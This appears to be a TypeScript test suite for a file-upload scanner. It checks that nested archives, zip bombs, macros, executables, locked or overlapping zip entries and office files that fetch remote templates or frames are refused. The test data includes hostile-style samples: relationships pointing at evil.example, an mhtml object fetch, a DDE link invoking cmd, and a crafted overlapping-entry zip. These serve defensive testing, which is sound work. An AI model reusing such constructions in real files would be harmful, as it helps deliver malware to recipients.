import type { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ZipFile } from 'yazl'
import { compoundFile, xlsStream } from '../fixtures/exchange/buildXls.ts'
import { type TestApp, testApp } from '../support/app.ts'
import { zipUp } from '../support/zipFiles.ts'

let t: TestApp
const lines: string[] = []
beforeAll(async () => {
  t = await testApp({ logTo: { write: (line) => void lines.push(line) } })
})
afterAll(() => t.close())

const upload = (name: string, bytes: Buffer) =>
  t.send<{ code?: string; detail?: string }>(t.people.contributor, 'POST', `${t.base}/files`, bytes, {
    'x-file-name': encodeURIComponent(name),
    'content-type': 'application/octet-stream',
  })
const zipOf = (files: Record<string, Buffer | string>) =>
  zipUp(new Map(Object.entries(files).map(([path, content]) => [path, Buffer.from(content)])))
const refusal = async (name: string, bytes: Buffer) => {
  const { status, body } = await upload(name, bytes)
  return [status === 201 ? 'taken in' : body.code, body.detail ?? '']
}
const relations = (...inside: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside.join('')}</Relationships>`
const relation = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`
const png = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(40)])
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])

describe('an archive in an archive', () => {
  test('is looked through like the one around it, three deep', async () => {
    const inner = await zipOf({ 'notes.txt': 'fine', 'photo.png': png })
    const middle = await zipOf({ 'inner.zip': inner })
    expect(await refusal('outer.zip', await zipOf({ 'middle.zip': middle }))).toEqual(['taken in', ''])
    const four = await zipOf({ 'outer.zip': await zipOf({ 'middle.zip': middle }) })
    expect(await refusal('four.zip', four)).toEqual(['file/unsafe', expect.stringContaining('3 archives deep')])
  })

  test('does not hide what would be refused by itself', async () => {
    const bomb = await zipOf({ 'zeros.bin': Buffer.alloc(60_000_000) })
    const macro = await zipOf({ 'word/vbaProject.bin': 'Attribute VB_Name' })
    for (const [name, content, said] of [
      ['bomb.zip', bomb, 'times its size'],
      ['renamed.dat', bomb, 'times its size'],
      ['minutes.docx', macro, 'macros'],
      ['tool.zip', await zipOf({ 'tool.exe': exe }), 'program'],
      ['cut.zip', (await zipOf({ 'a.txt': 'fine' })).subarray(0, 60), 'cannot be read'],
    ] as const)
      expect(await refusal('outer.zip', await zipOf({ [`a/${name}`]: content })), name).toEqual([
        'file/unsafe',
        expect.stringContaining(said),
      ])
    // An office file may hold another one.
    const embedding = await zipOf({ 'word/embeddings/Sheet.xlsx': await zipOf({ 'xl/vbaProject.bin': 'x' }) })
    expect(await refusal('minutes.docx', embedding)).toEqual(['file/unsafe', expect.stringContaining('macros')])
  })

  test('counts towards the same gigabyte', async () => {
    const noise = Buffer.alloc(1_000_000)
    for (let at = 0; at < noise.length; at += 7) noise[at] = at % 251
    const large = await zipOf(Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`${n}.bin`, noise])))
    const many = await zipOf(Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`${n}.zip`, large])))
    expect(many.length).toBeLessThan(90_000_000)
    expect(await refusal('many.zip', many)).toEqual(['file/unsafe', expect.stringContaining('more than 1 GB')])
  }, 60_000)
})

describe('what lies in an archive', () => {
  test.each([
    ['report.pdf', '<html>'],
    ['photo.png', '%PDF-1.7'],
    ['minutes.docx', 'not a zip'],
    ['notes.txt', 'a\u0000b'],
  ])('%s is what its name says', async (name, content) => {
    expect((await refusal('all.zip', await zipOf({ [name]: content })))[0]).toBe('file/refused')
  })

  test.each(['run.exe', 'run.BAT', 'a/b/run.ps1', 'look.lnk', 'budget.xlsm', 'tool.jar', 'setup.msi', 'page.hta'])(
    '%s is a program',
    async (name) => {
      expect(await refusal('all.zip', await zipOf({ [name]: 'x' }))).toEqual([
        'file/unsafe',
        expect.stringContaining('program'),
      ])
    },
  )

  test('programs are told by how they begin, too, and texts are not taken for them', async () => {
    for (const start of ['MZ', '\x7fELF', '\xcf\xfa\xed\xfe', '\xca\xfe\xba\xbe']) {
      const content = Buffer.concat([Buffer.from(start, 'latin1'), Buffer.alloc(100)])
      expect((await refusal('all.zip', await zipOf({ model: content })))[1], start).toContain('program')
    }
    expect(await refusal('all.zip', await zipOf({ 'cities.dat': 'MZ is the plate of Mainz' }))).toEqual([
      'taken in',
      '',
    ])
  })

  test.each(['data.7z', 'data.rar', 'data.tar.gz', 'disk.iso'])('%s cannot be looked into', async (name) => {
    expect(await refusal('all.zip', await zipOf({ [name]: 'x' }))).toEqual([
      'file/unsafe',
      expect.stringContaining('cannot be looked into'),
    ])
  })

  test('of other kinds is kept: code, pictures that are drawn, pages, empty files, what macOS adds', async () => {
    const files = {
      'src/train.py': 'print(1)',
      'src/app.js': 'alert(1)',
      'docs/index.html': '<p>',
      'logo.svg': '<svg/>',
      'empty.json': '',
      '__MACOSX/._report.pdf': Buffer.from('\x00\x05\x16\x07', 'latin1'),
      'report.pdf': '%PDF-1.7',
    }
    expect(await refusal('repository.zip', await zipOf(files))).toEqual(['taken in', ''])
  })

  test('and was refused is told to whoever runs the installation, without its name', async () => {
    lines.length = 0
    await upload('secret name.zip', await zipOf({ 'run.exe': 'x' }))
    await upload('fine.zip', await zipOf({ 'a.txt': 'fine' }))
    const events = lines.map((line) => (JSON.parse(line) as { event?: string }).event)
    expect(events.filter((event) => event === 'upload.unsafe')).toHaveLength(1)
    expect(lines.join('')).not.toMatch(/secret|run\.exe/)
  })

  test('is not locked', async () => {
    const sound = await zipOf({ 'a.txt': 'fine' })
    // The bit for encryption, beside the file and in the directory.
    for (const mark of ['PK\x03\x04', 'PK\x01\x02']) {
      const at = sound.indexOf(mark, 0, 'latin1')
      const flag = at + (mark.endsWith('\x04') ? 6 : 8)
      sound[flag] = (sound[flag] ?? 0) | 1
    }
    expect(await refusal('locked.zip', sound)).toEqual(['file/unsafe', expect.stringContaining('password')])
  })

  test('does not lie over each other', async () => {
    const zip = new ZipFile()
    const content = Buffer.from(
      Array.from({ length: 20_000 }, (_, n) => String.fromCharCode(33 + ((n * n) % 90))).join(''),
    )
    for (const name of ['a.dat', 'b.dat', 'c.dat']) zip.addBuffer(content, name, { compress: false })
    zip.end()
    const bytes = await buffer(zip.outputStream as Readable)
    expect(await refusal('sound.zip', bytes)).toEqual(['taken in', ''])
    // All three in the directory point at the last one; the bytes of the others are left out.
    const end = bytes.indexOf('PK\x01\x02', 0, 'latin1')
    const last = bytes.lastIndexOf('PK\x03\x04', end, 'latin1')
    const cut = Buffer.concat([bytes.subarray(last, end), bytes.subarray(end)])
    let entry = end - last
    for (let n = 0; n < 3; n += 1) {
      cut.writeUInt32LE(0, entry + 42)
      entry = cut.indexOf('PK\x01\x02', entry + 4, 'latin1')
    }
    cut.writeUInt32LE(end - last, cut.lastIndexOf('PK\x05\x06', cut.length, 'latin1') + 16)
    expect(await refusal('over.zip', cut)).toEqual(['file/unsafe', expect.stringContaining('over each other')])
  })
})

describe('an office file', () => {
  const docx = (part: string, content: string | Buffer) =>
    zipOf({ 'word/document.xml': '<w:document/>', [part]: content })

  test('that fetches a template, an object or a frame when it is opened', async () => {
    for (const [type, target] of [
      ['attachedTemplate', 'https://evil.example/t.dotm'],
      ['attachedTemplate', 'HTTP://evil.example/t.dotm'],
      ['attachedTemplate', '&#104;ttps://evil.example/t.dotm'],
      ['oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html'],
      ['frame', ' https://evil.example/'],
    ] as const) {
      const rels = relations(relation(type, target))
      for (const content of [rels, Buffer.from(`\ufeff${rels}`, 'utf16le')])
        expect(await refusal('minutes.docx', await docx('word/_rels/settings.xml.rels', content)), target).toEqual([
          'file/unsafe',
          expect.stringContaining('fetches a part of itself'),
        ])
    }
    const plain = relations(
      relation('hyperlink', 'https://example.org/'),
      relation('image', 'https://example.org/a.png'),
      relation('attachedTemplate', 'file:///C:/Templates/Minutes.dotx'),
      relation('styles', 'styles.xml', 'Internal'),
    )
    expect(await refusal('minutes.docx', await docx('word/_rels/document.xml.rels', plain))).toEqual(['taken in', ''])
  })

  test('is looked at in a moment, however its parts are written', async () => {
    const before = performance.now()
    for (const part of ['<Relationship ', '<a:', ' Target="', '<', '&#x'])
      await refusal('minutes.docx', await docx('word/_rels/document.xml.rels', part.repeat(1_000_000 / part.length)))
    expect(performance.now() - before).toBeLessThan(10_000)
  })

  test('with macros under another name, links that start programs, or a file as an object', async () => {
    const types = '<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    const ole = Buffer.concat([Buffer.from('\xd0\xcf\x11\xe0', 'latin1'), Buffer.from('\u0001Ole10Native', 'utf16le')])
    for (const [name, part, content, said] of [
      ['minutes.docx', '[Content_Types].xml', types, 'macros'],
      [
        'budget.xlsx',
        'xl/externalLinks/externalLink1.xml',
        '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        'DDE',
      ],
      ['slides.pptx', 'ppt/embeddings/oleObject1.bin', ole, 'another file as an object'],
    ] as const)
      expect(await refusal(name, await docx(part, content)), part).toEqual([
        'file/unsafe',
        expect.stringContaining(said),
      ])
    const book = '<externalLink><externalBook r:id="rId1"/></externalLink>'
    expect(await refusal('budget.xlsx', await docx('xl/externalLinks/externalLink1.xml', book))).toEqual([
      'taken in',
      '',
    ])
  })

  test('of the older kind with a sheet of macros', async () => {
    const stream = xlsStream({ sheets: [{ name: 'Macro1', cells: [] }] })
    const book = (workbook: Buffer) => Buffer.from(compoundFile({ Workbook: workbook }))
    const sound = book(stream)
    expect(await refusal('budget.xls', sound)).toEqual(['taken in', ''])
    const macro = Buffer.from(stream)
    const at = macro.indexOf(Buffer.from([0x85, 0x00]))
    macro[at + 9] = 1
    expect(await refusal('budget.xls', book(macro))).toEqual(['file/unsafe', expect.stringContaining('macros')])
    expect((await refusal('all.zip', await zipOf({ 'budget.xls': book(macro) })))[0]).toBe('file/unsafe')
  })
})
